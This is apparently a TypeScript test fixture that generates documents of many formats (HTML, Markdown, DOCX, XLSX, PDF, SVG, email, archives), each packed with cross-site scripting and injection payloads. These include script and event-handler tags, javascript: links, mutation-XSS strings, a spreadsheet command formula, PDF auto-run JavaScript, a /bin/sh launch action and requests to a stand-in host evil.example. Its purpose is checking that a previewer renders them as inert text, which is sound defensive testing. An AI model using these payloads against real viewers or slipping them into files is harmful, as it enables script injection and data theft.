// Documents whose text is markup and script, one of each kind that a preview shows: whatever reads or draws them must take it
// for text. Each holds a word of its own to be found by.
import { strToU8 } from 'fflate';
import { makeGzip, makeTar, makeZip } from './make-archive';
import { docxParagraph, docxTable, makeDocx } from './make-docx';
import { makeEpub } from './make-epub';
import { attachment, mailPart, makeMail, makeMailbox, multipart } from './make-mail';
import { makeMsg } from './make-msg';
import { makeOpenDocument } from './make-opendocument';
import { draw, drawPdf } from './make-pdf';
import { makePptx, pptxShape } from './make-pptx';
import { makeWorkbook } from './make-spreadsheet';

export interface HostileDocument {
  fileName: string;
  /** Stands in it and in no other. */
  word: string;
  bytes: Uint8Array;
}

/** Where whatever acts would report to. */
export const ELSEWHERE = 'http://evil.example';

/** What sets this in the page has acted. */
export const OWNED = '__owned';

/** What acts in a page, wherever it is put into one as markup. */
const MARKUP = [
  `<script>window.${OWNED}=1</script>`,
  `<img src="${ELSEWHERE}/img" onerror="window.${OWNED}=1">`,
  `<svg onload="window.${OWNED}=1"><a xlink:href="javascript:window.${OWNED}=1">go</a></svg>`,
  `<iframe src="${ELSEWHERE}/frame" srcdoc="<script>parent.${OWNED}=1</script>"></iframe>`,
  `<meta http-equiv="refresh" content="0;url=${ELSEWHERE}/meta"><base href="${ELSEWHERE}/">`,
  `<link rel="stylesheet" href="${ELSEWHERE}/css"><style>@import "${ELSEWHERE}/import";*{background:url(${ELSEWHERE}/url);display:none}</style>`,
  `<form action="${ELSEWHERE}/form"><button autofocus onfocus="window.${OWNED}=1">send</button></form>`,
  `<a href="javascript:window.${OWNED}=1">click</a> <a href="data:text/html,<script>opener.${OWNED}=1</script>">data</a>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.${OWNED}=1&gt;">`,
  `<noscript><p title="</noscript><img src=x onerror=window.${OWNED}=1>">`,
  `<video src="${ELSEWHERE}/video" autoplay></video><object data="${ELSEWHERE}/object"></object>`,
];
const ALL = MARKUP.join(' ');
/** For a title, a name of a sheet, a subject. */
const SHORT = `<img src=x onerror=window.${OWNED}=1>`;

const xml = (text: string): string =>
  text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;').replaceAll('"', '&quot;');

const core = `<dc:title>${xml(SHORT)} title</dc:title><dc:creator>${xml(SHORT)}</dc:creator>`;

export function hostileDocuments(): HostileDocument[] {
  const make = (fileName: string, word: string, content: (word: string) => Uint8Array | string) => {
    const made = content(word);
    return { fileName, word, bytes: typeof made === 'string' ? strToU8(made) : made };
  };
  return [
    make('a.txt', 'wordtxt', (word) => `${ALL}\n\nThe ${word} is here. ${ALL}\n`),
    make('a.md', 'wordmd', markdown),
    make('a.html', 'wordhtml', html),
    make('a.mhtml', 'wordmhtml', (word) =>
      makeMail(
        { Subject: SHORT, ...multipart('related', []).headers },
        multipart('related', [mailPart('text/html', html(word))]).body,
      ),
    ),
    make('a.csv', 'wordcsv', (word) => `${quoted(SHORT)},b\n${word} is here,${quoted(ALL)}\n`),
    make('a.json', 'wordjson', (word) =>
      JSON.stringify({ [SHORT]: ALL, note: `The ${word} is here` }, null, 1),
    ),
    make(
      'a.xml',
      'wordxml',
      (word) => `<book><title>${xml(SHORT)}</title><p>The ${word} is here.</p><p>${xml(ALL)}</p></book>`,
    ),
    make('a.srt', 'wordsrt', (word) => `1\n00:00:01,000 --> 00:00:04,000\nThe ${word} is here. ${ALL}\n`),
    make(
      'a.ts',
      'wordts',
      (word) => `// The ${word} is here: ${ALL}\nconst a = \`${ALL}\`;\nfunction constructor() {}\n`,
    ),
    make('a.ipynb', 'wordipynb', notebook),
    make(
      'a.rst',
      'wordrst',
      (word) =>
        `Title ${SHORT}\n======\n\nThe ${word} is here.\n\n.. raw:: html\n\n   ${ALL}\n\n\`go <javascript:window.${OWNED}=1>\`_\n`,
    ),
    make('a.docx', 'worddocx', (word) =>
      makeDocx({
        core,
        body:
          docxParagraph(`${xml(SHORT)} heading`, 'heading 1') +
          docxParagraph(`The ${word} is here.`) +
          docxParagraph(xml(ALL)) +
          docxTable([
            [xml(SHORT), 'b'],
            [xml(ALL), 'c'],
          ]),
      }),
    ),
    make('a.xlsx', 'wordxlsx', (word) =>
      makeWorkbook('xlsx', {
        sheets: [
          {
            name: '<b onclick=x>',
            rows: [
              ['a', SHORT],
              [`The ${word} is here`, ALL],
              ['=HYPERLINK("javascript:1")', '=cmd|x'],
            ],
          },
        ],
        title: SHORT,
      }),
    ),
    make('a.pptx', 'wordpptx', (word) =>
      makePptx({
        core,
        slides: [
          {
            shapes:
              pptxShape([xml(SHORT)], { placeholder: 'title' }) +
              pptxShape([`The ${word} is here.`, xml(ALL)]),
          },
        ],
      }),
    ),
    make('a.odt', 'wordodt', (word) =>
      makeOpenDocument({
        meta: `<dc:title>${xml(SHORT)}</dc:title>`,
        body: `<office:text><text:h text:outline-level="1">${xml(SHORT)}</text:h><text:p>The ${word} is here.</text:p><text:p>${xml(ALL)}</text:p><text:p><text:a xlink:href="javascript:window.${OWNED}=1">go</text:a></text:p></office:text>`,
      }),
    ),
    make(
      'a.rtf',
      'wordrtf',
      (word) =>
        `{\\rtf1\\ansi{\\info{\\title ${rtf(SHORT)}}}The ${word} is here.\\par ${rtf(ALL)}\\par{\\field{\\*\\fldinst HYPERLINK "javascript:window.${OWNED}=1"}{\\fldrslt go}}}`,
    ),
    make('a.epub', 'wordepub', (word) =>
      makeEpub({
        metadata: `<dc:title>${xml(SHORT)}</dc:title>`,
        chapters: [
          {
            href: 'one.xhtml',
            body: `<h1>${xml(SHORT)}</h1><script>window.${OWNED}=1</script><p>The ${word} is here.</p><p>${xml(ALL)}</p>`,
          },
        ],
      }),
    ),
    make('a.eml', 'wordeml', mail),
    make('a.mbox', 'wordmbox', (word) => makeMailbox([mail(word)])),
    make('a.msg', 'wordmsg', (word) =>
      makeMsg({ properties: { 55: SHORT, 3098: SHORT, 4096: `The ${word} is here. ${ALL}` } }),
    ),
    make('a.zip', 'wordzip', (word) =>
      makeZip([
        { name: `<img src=x onerror=window.${OWNED}=1>.html`, bytes: html(word) },
        { name: 'b.docx', bytes: makeDocx({ body: docxParagraph(xml(ALL)) }) },
      ]),
    ),
    make('a.tgz', 'wordtgz', (word) => makeGzip(makeTar([{ name: 'x/<b>.md', bytes: markdown(word) }]))),
    make(
      'a.svg',
      'wordsvg',
      (word) =>
        `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="90" height="90" onload="window.${OWNED}=1"><title>${xml(SHORT)}</title><script>window.${OWNED}=1;parent.${OWNED}=1</script><image xlink:href="${ELSEWHERE}/svg" width="9" height="9"/><foreignObject width="50" height="50"><iframe xmlns="http://www.w3.org/1999/xhtml" src="${ELSEWHERE}/svgframe"/></foreignObject><text y="20">The ${word} is here.</text></svg>`,
    ),
    make('a.pdf', 'wordpdf', pdf),
    // The name itself, and one that the eye would read the other way round.
    make(`<img src=x onerror=window.${OWNED}=1>.txt`, 'wordname', (word) => `The ${word} is here.\n`),
    make('in\u202eexe.txt', 'wordbidi', (word) => `The ${word} is here. \u202ereversed\u202c\n`),
    make('__proto__', 'wordproto', (word) => `The ${word} is here.\n`),
    make(
      'constructor.md',
      'wordconstructor',
      (word) =>
        `# constructor\n\nThe ${word} is here.\n\n~~~constructor\na = 1\n~~~\n\n~~~__proto__\na = 1\n~~~\n`,
    ),
  ];
}

const quoted = (text: string): string => `"${text.replaceAll('"', '""')}"`;
const rtf = (text: string): string => text.replace(/[\\{}]/g, '\\$&');

function markdown(word: string): string {
  return [
    `---\ntitle: '${SHORT}'\nauthor: '${SHORT}'\n---`,
    `# ${SHORT} heading`,
    `The ${word} is here. ${ALL}`,
    `[click](javascript:window.${OWNED}=1) ![x](${ELSEWHERE}/md) <javascript:window.${OWNED}=1> [r][r]`,
    `| ${SHORT} | b |\n| --- | --- |\n| ${MARKUP[0]} | ${MARKUP[1]} |`,
    `~~~"><script>window.${OWNED}=1</script>\n${ALL}\n~~~`,
    `~~~html\n${ALL}\n~~~`,
    `[r]: javascript:window.${OWNED}=1 "${SHORT}"`,
  ].join('\n\n');
}

function html(word: string): string {
  return `<html lang="${xml(SHORT)}"><head><title>${xml(SHORT)}</title></head><body onload="window.${OWNED}=1"><h1>${xml(SHORT)}</h1><p>The ${word} is here. ${ALL}</p><p>${xml(ALL)}</p><pre>${xml(ALL)}</pre></body></html>`;
}

function notebook(word: string): string {
  const output = {
    output_type: 'display_data',
    data: { 'text/html': ALL, 'text/plain': ALL, 'image/svg+xml': ALL },
  };
  return JSON.stringify({
    nbformat: 4,
    nbformat_minor: 5,
    metadata: { kernelspec: { language: SHORT } },
    cells: [
      { cell_type: 'markdown', metadata: {}, source: markdown(word) },
      { cell_type: 'code', metadata: {}, source: ALL, outputs: [output], execution_count: null },
    ],
  });
}

function mail(word: string): Uint8Array {
  const { headers, body } = multipart('mixed', [
    mailPart('text/html', html(word)),
    attachment(`x${SHORT.replaceAll('"', '')}.txt`, 'text/plain', strToU8(ALL)),
  ]);
  return makeMail({ From: `"${SHORT}" <a@example.org>`, Subject: SHORT, ...headers }, body);
}

/** With actions that open by themselves, links of every kind, and labels of pages that are markup. */
function pdf(word: string): Uint8Array {
  const link = (line: number, action: string): string =>
    `<< /Type /Annot /Subtype /Link /Border [0 0 0] /Rect [58 ${600 - line * 24} 300 ${616 - line * 24}] /Contents (${SHORT}) /A << ${action} >> >>`;
  const links = [
    `/S /URI /URI (javascript:window.${OWNED}=1)`,
    `/S /URI /URI (${ELSEWHERE}/pdf)`,
    `/S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\("${ELSEWHERE}/js"\\);)`,
    '/S /Launch /F (/bin/sh)',
    `/S /SubmitForm /F (${ELSEWHERE}/submit)`,
    '/S /GoToR /F (\\\\\\\\evil.example\\\\share\\\\x.pdf) /D [0 /Fit]',
  ];
  return drawPdf({
    contents: [
      draw(`The ${word} is here.`, 60, 700) +
        MARKUP.map((line, index) => draw(line.replace(/[\\()]/g, '\\$&'), 60, 660 - index * 20, 6)).join(''),
    ],
    catalog: `/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> /AA << /WC << /S /JavaScript /JS (app.alert\\(2\\)) >> >> /PageLabels << /Nums [0 << /P (${SHORT}) >>] >>`,
    page: () => '/Annots 4 0 R',
    objects: () => [`[${links.map((action, line) => link(line, action)).join('\n')}]`],
  });
}
